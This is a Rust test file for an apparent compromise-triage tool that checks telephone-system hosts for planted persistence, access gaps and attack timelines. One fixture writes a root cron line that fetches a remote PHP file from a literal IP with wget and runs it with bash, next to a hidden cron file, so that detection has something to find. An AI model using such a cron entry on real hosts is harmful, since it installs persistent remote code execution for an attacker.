use super::*;
use crate::engine::{Opening, Reading, scan};
use crate::model::{Category, EvidencePath, Gap, GapReason, Severity};
use std::path::Path;

fn finding(rule: &str, path: &str, category: Category, (first, last): (i64, i64)) -> Finding {
    let subject = Subject::File { path: EvidencePath::new(path).unwrap(), sha256: None };
    let span = Span { first: Timestamp::new(first, 0), last: Timestamp::new(last, 0), by: TimeSource::Inode };
    Finding::new(rule, "t", (category, Severity::High, 90), subject, Vec::new()).with_span(Some(span))
}

/// A host of some files, and what a check says of it.
fn check_of(files: &[(&str, &str)]) -> Check {
    let folder = tempfile::tempdir().unwrap();
    for (path, text) in files {
        let path = folder.path().join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }
    let target = Target::open(&Opening::new(Some(folder.path()), folder.path())).unwrap();
    let checker = Checker::default();
    let mut detectors = Detectors::builtin(Vec::new()).unwrap();
    checker.watch(&mut detectors);
    let reading = Reading { options: crate::sweep::Options::default(), progress: &(), cancel: &|| false };
    let scan = scan(&target, detectors, reading).unwrap();
    let created = Timestamp::new(2_000_000_000, 0);
    let about = About { tool: "triage".into(), now: None, created };
    checker.answer(&target, &scan, &Families::builtin().unwrap(), about).unwrap()
}

fn scan_of(findings: &[Finding], gaps: &[Gap]) -> Scan {
    Scan {
        verdict: Verdict::of(findings, false),
        findings: findings.to_vec(),
        allowed: Vec::new(),
        unused: Vec::new(),
        gaps: gaps.to_vec(),
        summary: crate::sweep::Summary::default(),
        clean_up: None,
    }
}

fn word(check: &Check, question: Question) -> Option<Word> {
    check.answers.iter().find(|answer| answer.question == question).map(|answer| answer.answer)
}

/// What makes a host a FreePBX.
const FREEPBX: (&str, &str) = ("etc/freepbx.conf", "<?php\n");

const QUIET: [(&str, &str); 4] = [
    ("etc/passwd", "root:x:0:0::/root:/bin/bash\n"),
    ("etc/shadow", "root:*:1::::::\n"),
    ("etc/crontab", "17 * * * * root run-parts /etc/cron.hourly\n"),
    ("var/www/html/index.php", "<?php echo 1;\n"),
];

#[test]
fn what_was_not_read_is_not_known_and_silence_about_it_is_no_answer() {
    let check = check_of(&[&QUIET[..], &[FREEPBX]].concat());
    assert_eq!(word(&check, Question::Shells), Some(Word::NoEvidence));
    assert_eq!(word(&check, Question::Accounts), Some(Word::NoEvidence));
    assert_eq!(word(&check, Question::Database), Some(Word::NotKnown));
    assert_eq!(check.verdict, Verdict::Undetermined);
    assert_eq!(check.because.as_deref(), Some("the database was not read"));
}

#[test]
fn what_was_there_and_refused_is_named() {
    let gap = Gap::new(EvidencePath::new("/var/spool/cron/crontabs").unwrap(), GapReason::PermissionDenied, "x");
    let answer = Answer::to(Question::Persistence, &scan_of(&[], &[gap]), &Seen::default());
    assert_eq!(answer.answer, Word::NotKnown);
    assert_eq!(answer.unread.as_deref(), Some("not read: /var/spool/cron/crontabs (permission_denied)"));
}

#[test]
fn a_host_without_a_telephone_system_is_not_asked_about_one() {
    let check = check_of(&QUIET);
    assert_eq!(word(&check, Question::Database), None);
    assert_eq!(word(&check, Question::Fraud), None);
    assert_eq!((check.verdict, check.because), (Verdict::NoEvidence, None));
    assert_eq!(check.ongoing.answer, Going::NotKnown);
}

#[test]
fn a_product_without_a_pack_is_undetermined() {
    let check = check_of(&[&QUIET[..], &[("etc/vitalpbx/x.conf", "")]].concat());
    assert_eq!(check.verdict, Verdict::Undetermined);
    assert!(check.because.unwrap().contains("VitalPBX"));
}

#[test]
fn a_planted_host_is_answered_with_evidence_family_and_time() {
    let mut files = QUIET.to_vec();
    files.push(("usr/lib/.systemd/.cache", "* * * * * root true\n"));
    files.push(("var/spool/cron/root", "*/1 * * * * wget -q http://45.95.147.178/k.php -O /var/lib/asterisk/bin/zen222 && bash /var/lib/asterisk/bin/zen222\n"));
    files.push(FREEPBX);
    let check = check_of(&files);
    assert_eq!(check.verdict, Verdict::Compromised);
    assert_eq!(word(&check, Question::Persistence), Some(Word::Compromised));
    assert_eq!(check.families[0].id, "jomangy");
    assert!(!check.root_shown.is_empty());
    assert_eq!(check.ongoing.answer, Going::Likely);
    assert!(check.first_act.as_ref().unwrap().time <= check.last_act.as_ref().unwrap().time);
    let line: serde_json::Value = serde_json::from_str(&verdict_line(&check).unwrap()).unwrap();
    assert_eq!((&line["kind"], &line["verdict"]), (&"verdict".into(), &"compromised".into()));
}

#[test]
fn first_and_last_are_of_what_is_proven() {
    let mut weak = finding("TR-NAME-0001", "/a", Category::WebShell, (1, 9_000));
    weak.severity = Severity::Medium;
    let hole = finding("TR-ADVISORY-0001", "/b", Category::Vulnerable, (2, 8_000));
    let findings = [finding("x", "/c", Category::WebShell, (100, 200)), weak, hole];
    let acts = acts(&findings);
    assert_eq!(
        acts.iter().map(|(_, span)| (span.first.seconds(), span.last.seconds())).collect::<Vec<_>>(),
        [(100, 200)]
    );
}

#[test]
fn a_recent_act_and_a_timetable_go_on_likely() {
    let old = [finding("x", "/c", Category::WebShell, (100, 200))];
    let scan = scan_of(&old, &[]);
    let at = |now: i64| ongoing(&scan, &acts(&old), true, Some(Timestamp::new(now, 0))).answer;
    assert_eq!(at(300), Going::Likely);
    assert_eq!(at(200 + RECENT), Going::NotSeen);
    assert_eq!(ongoing(&scan, &acts(&old), false, None).answer, Going::NotKnown);
}

#[test]
fn root_is_shown_by_what_only_root_can_write() {
    let shows = |path: &str| shows_root(&finding("x", path, Category::Persistence, (1, 1)));
    for path in ["/etc/cron.d/x", "/root/.bashrc", "/usr/lib/.systemd/.cache", "/var/spool/cron/crontabs/root"] {
        assert!(shows(path), "{path}");
    }
    for path in [
        "/var/www/html/x.php",
        "/etc/asterisk/x.conf",
        "/usr/local/asterisk/ha_trigger",
        "/tmp/x",
        "/var/spool/cron/asterisk",
    ] {
        assert!(!shows(path), "{path}");
    }
}

#[test]
fn every_rule_of_a_family_exists() {
    let families = Families::builtin().unwrap();
    let sources: Vec<String> = crate::builtin::BUILTIN_RULES.iter().map(|(_, text)| (*text).to_owned()).collect();
    let code = Path::new(env!("CARGO_MANIFEST_DIR")).join("src/detect");
    let mut all = sources.join("\n");
    let mut folders = vec![code];
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(folder).unwrap().flatten() {
            let path = entry.path();
            if path.is_dir() {
                folders.push(path);
            } else if let Ok(text) = std::fs::read_to_string(&path) {
                all.push_str(&text);
            }
        }
    }
    // The families' own file names every rule once; a rule that exists stands somewhere else too.
    let own: String = crate::builtin::BUILTIN_RULES
        .iter()
        .filter(|(file, _)| file.starts_with("families/"))
        .map(|(_, text)| *text)
        .collect();
    for rule in families.rules() {
        let elsewhere = all.matches(&rule.0).count() - own.matches(&rule.0).count();
        assert!(elsewhere > 0, "no rule has the name {rule}");
    }
}
